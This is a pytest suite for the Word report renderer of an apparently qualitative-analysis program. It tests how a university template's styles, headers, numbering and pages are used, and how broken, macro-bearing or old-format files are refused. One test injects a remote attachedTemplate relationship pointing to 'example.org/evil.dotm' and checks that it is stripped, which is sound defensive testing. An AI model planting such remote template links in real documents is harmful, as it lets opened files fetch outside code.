"""A university's Word template: what of it is used, what of ours is added, which files are refused."""

import io
import re
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest
from docx import Document
from docx.enum.text import WD_ALIGN_PARAGRAPH
from docx.oxml.ns import qn
from docx.shared import Cm, Pt

from qda.errors import KnownError
from qda.reports.model import Paragraph, Quote, Report, Section, paragraph, walk
from qda.reports.registry import build_report, render_bytes, reports
from qda.reports.render_docx import render

from .samples import HOSTILE, sample
from .small_study import build
from .templates import as_dotx, changed, saved, university


def given(tmp_path: Path, data: bytes, name: str = "Vorlage.docx") -> str:
    file = tmp_path / name
    file.write_bytes(data)
    return str(file)


def made(template: str, report: Report | None = None):
    return Document(io.BytesIO(render(replace(report or sample(), template=template))))


@pytest.fixture(scope="module")
def document(tmp_path_factory):
    return made(given(tmp_path_factory.mktemp("template"), saved(university())))


def style_of(document, name: str):
    (found,) = [one for one in document.paragraphs if one.text == name]
    return found.style


def test_its_styles_are_found_by_name_whatever_language_its_word_spoke(document):
    heading = style_of(document, "Categories")
    assert heading.name == "Heading 1"
    assert heading.font.color.rgb is not None  # the template's, ours has none
    assert style_of(document, "No number.").name == "Body Text"
    quote = next(one for one in document.paragraphs if one.style.name == "Quote")
    assert quote.style.font.size == Pt(10)
    identifiers = [one.style_id for one in document.styles]
    assert len(identifiers) == len(set(identifiers))


def test_the_body_text_follows_that_of_the_template(document):
    normal = document.styles["Normal"]
    assert (normal.font.name, normal.font.size) == ("Arial", Pt(12))
    body = document.styles["Body Text"]
    assert body.base_style.name == "Normal"
    assert body.paragraph_format.alignment is None
    assert body.paragraph_format.line_spacing is None


def test_small_parts_that_it_lacks_are_added_and_stand_flush(document):
    cell = document.tables[0].rows[2].cells[2].paragraphs[0]
    assert cell.style.name == "Table Text"
    assert cell.style.paragraph_format.alignment == WD_ALIGN_PARAGRAPH.LEFT
    assert cell.style.paragraph_format.first_line_indent == 0


def test_every_style_that_the_text_names_is_there(document):
    known = {one.get(qn("w:styleId")) for one in document.styles.element.iter(qn("w:style"))}
    body = document.element.body
    named = {
        one.get(qn("w:val"))
        for kind in ("pStyle", "rStyle", "tblStyle")
        for one in body.iter(qn(f"w:{kind}"))
    }
    based = {
        one.get(qn("w:val"))
        for kind in ("basedOn", "next", "link")
        for one in document.styles.element.iter(qn(f"w:{kind}"))
    }
    assert named | based <= known


def test_its_pages_header_and_footer_are_used_and_turn_with_the_pages(document):
    sizes = [(round(one.page_width.cm, 1), round(one.page_height.cm, 1)) for one in document.sections]
    assert sizes == [(21.0, 29.7), (29.7, 21.0), (21.0, 29.7)]
    assert all(abs(one.left_margin - Cm(4)) < 700 for one in document.sections)
    first = document.sections[0]
    assert first.header.paragraphs[0].text.startswith("Universität Musterstadt")
    assert document.sections[2].header.is_linked_to_previous
    assert len(re.findall("PAGE", first.footer._element.xml)) == 1


def test_a_page_number_is_added_where_the_template_has_none(tmp_path):
    document = made(given(tmp_path, saved(university(pages=False))))
    assert "PAGE" in document.sections[0].footer._element.xml


def test_a_template_without_header_and_footer_gets_ours(tmp_path):
    document = made(given(tmp_path, saved(Document())))
    assert document.sections[0].header.paragraphs[0].text == "Netzwerkpflege · Invented teaching study"
    assert "PAGE" in document.sections[0].footer._element.xml


def test_its_own_text_is_not_in_the_report(document):
    assert not any("ANLEITUNG" in one.text or "löschen" in one.text for one in document.paragraphs)


def test_headings_get_our_numbers_where_those_of_the_template_bear_none(document):
    bearing = {
        one.text: one._p.find(f".//{qn('w:numId')}").get(qn("w:val"))
        for one in document.paragraphs
        if one.style.name.startswith("Heading")
    }
    numbers = {one.get(qn("w:numId")) for one in document.part.numbering_part.element.iter(qn("w:num"))}
    assert bearing["Categories"] == bearing["Mittel"] in numbers
    assert bearing["Definition"] == "0"


def test_headings_keep_the_numbers_of_the_template_and_lists_do_not_mix(tmp_path):
    document = made(given(tmp_path, saved(university(numbered=True))))
    heading = next(one for one in document.paragraphs if one.text == "Categories")
    assert heading._p.find(f".//{qn('w:numId')}") is None
    own = heading.style.element.find(f".//{qn('w:numId')}").get(qn("w:val"))
    lists = {
        one._p.find(f".//{qn('w:numId')}").get(qn("w:val"))
        for one in document.paragraphs
        if one.style.name.startswith("List")
    }
    assert own not in lists
    every = [one.get(qn("w:numId")) for one in document.part.numbering_part.element.iter(qn("w:num"))]
    assert len(every) == len(set(every))
    contents = next(one for one in document.paragraphs if one.text == "Contents")
    assert contents._p.find(f".//{qn('w:numId')}").get(qn("w:val")) == "0"


def test_the_language_is_that_of_the_report(tmp_path):
    template = given(tmp_path, saved(university()))
    styles = made(template, replace(sample(), language="de")).styles.element.xml
    assert 'w:lang w:val="de-DE"' in styles
    assert "en-US" not in re.findall(r'w:lang w:val="([\w-]+)"', styles)


def test_entries_of_the_contents_end_at_the_right_margin_of_its_pages(document):
    entry = next(one for one in document.paragraphs if one.style.name == "toc 1")
    stops = [int(one.get(qn("w:pos"))) for one in entry._p.iter(qn("w:tab")) if one.get(qn("w:pos"))]
    assert abs(max(stops) - Cm(15).twips) < 5


def test_a_template_of_words_own_kind_is_taken(tmp_path):
    template = given(tmp_path, as_dotx(saved(university())), "Vorlage.dotx")
    data = render(replace(sample(), template=template))
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        types = package.read("[Content_Types].xml")
    assert b"template.main" not in types
    assert Document(io.BytesIO(data)).sections[0].header.paragraphs[0].text.startswith("Universität")


def test_nothing_of_a_template_asks_at_opening_or_leads_elsewhere(tmp_path):
    data = saved(university())
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        settings = package.read("word/settings.xml").decode()
    asking = (
        '<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
        'r:id="rId9"/><w:updateFields w:val="true"/><w:documentProtection w:edit="forms"/>'
    )
    settings = re.sub(r"(<w:settings[^>]*>)", rf"\1{asking}", settings, count=1)
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate" '
        'Target="http://example.org/evil.dotm" TargetMode="External"/></Relationships>'
    )
    template = given(
        tmp_path,
        changed(
            data, **{"word/settings.xml": settings.encode(), "word/_rels/settings.xml.rels": rels.encode()}
        ),
    )
    out = render(replace(sample(), template=template))
    with zipfile.ZipFile(io.BytesIO(out)) as package:
        everything = b"".join(package.read(name) for name in package.namelist())
    for word in (b"example.org", b"attachedTemplate", b"updateFields", b"documentProtection"):
        assert word not in everything


def bad(tmp_path: Path, name: str) -> str:
    good = saved(university())
    with zipfile.ZipFile(io.BytesIO(good)) as package:
        types = package.read("[Content_Types].xml")
    macro = types.replace(b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml")
    data = {
        "text": b"no zip",
        "old": b"\xd0\xcf\x11\xe0" + bytes(600),
        "macros": changed(good, **{"[Content_Types].xml": macro}),
        "project": changed(good, word__vbaProject=b"x", **{"word/vbaProject.bin": b"x"}),
        "cut": good[: len(good) // 2],
        "broken": changed(good, **{"word/document.xml": b"<w:document"}),
        "no styles": changed(good, **{"word/styles.xml": b"<a/>"}),
        "sheet": changed(good, **{"word/document.xml": None}),
        "empty": b"",
    }[name]
    return given(tmp_path, data, f"{name}.docx")


@pytest.mark.parametrize(
    ("name", "sentence"),
    [
        ("text", "is no Word file"),
        ("old", "of the old kind, or protected by a password"),
        ("macros", "holds macros"),
        ("project", "holds macros"),
        ("cut", "is no Word file|is damaged"),
        ("broken", "is damaged"),
        ("no styles", "is damaged"),
        ("sheet", "is damaged"),
        ("empty", "is no Word file"),
    ],
)
def test_a_file_that_can_be_no_template_is_refused_in_a_sentence(tmp_path, name, sentence):
    with pytest.raises(KnownError, match=sentence):
        render(replace(sample(), template=bad(tmp_path, name)))


def test_a_template_that_is_not_there_is_told_before_the_report_is_written(tmp_path):
    with build(tmp_path / "s.qdaproj") as project, pytest.raises(KnownError, match="cannot be read"):
        build_report("codebook", project, {"template": str(tmp_path / "none.docx")})


@pytest.mark.parametrize("cut", range(0, 100, 7))
def test_no_damage_of_a_template_breaks_the_program(tmp_path, cut):
    data = bytearray(saved(university()))
    place = len(data) * cut // 100
    for at in range(place, min(place + 40, len(data))):
        data[at] ^= 0x5A
    template = given(tmp_path, bytes(data))
    try:
        made(template)
    except KnownError as told:
        assert "Vorlage.docx" in told.sentence


def test_hostile_names_keep_a_templates_document_sound(tmp_path):
    document = made(given(tmp_path, saved(university())), sample(HOSTILE))
    assert len([one for one in document.paragraphs if one.style.name == "Quote"]) == len(HOSTILE)


def test_every_report_that_can_be_a_word_file_takes_a_template(tmp_path):
    for kind in reports():
        taken = {option.name for option in kind.options}
        assert ("template" in taken) == ("docx" in kind.formats), kind.name
    template = given(tmp_path, saved(university()))
    with build(tmp_path / "s.qdaproj") as project:
        report = build_report("codebook", project, {"template": template})
    header = Document(io.BytesIO(render_bytes(report, "docx"))).sections[0].header
    assert header.paragraphs[0].text.startswith("Universität Musterstadt")


def test_a_label_stays_with_the_quotation_below_it():
    from qda.reports.model import Run

    label = Paragraph((Run("Typical passage:", bold=True),))
    report = Report("T", "en", (Section("A", (label, Quote("x", "B"), paragraph("y"))),))
    assert [type(one) for one in walk(report.blocks)][1:3] == [Paragraph, Quote]
    (found,) = [
        one for one in Document(io.BytesIO(render(report))).paragraphs if one.text == "Typical passage:"
    ]
    assert found._p.find(f".//{qn('w:keepNext')}") is not None
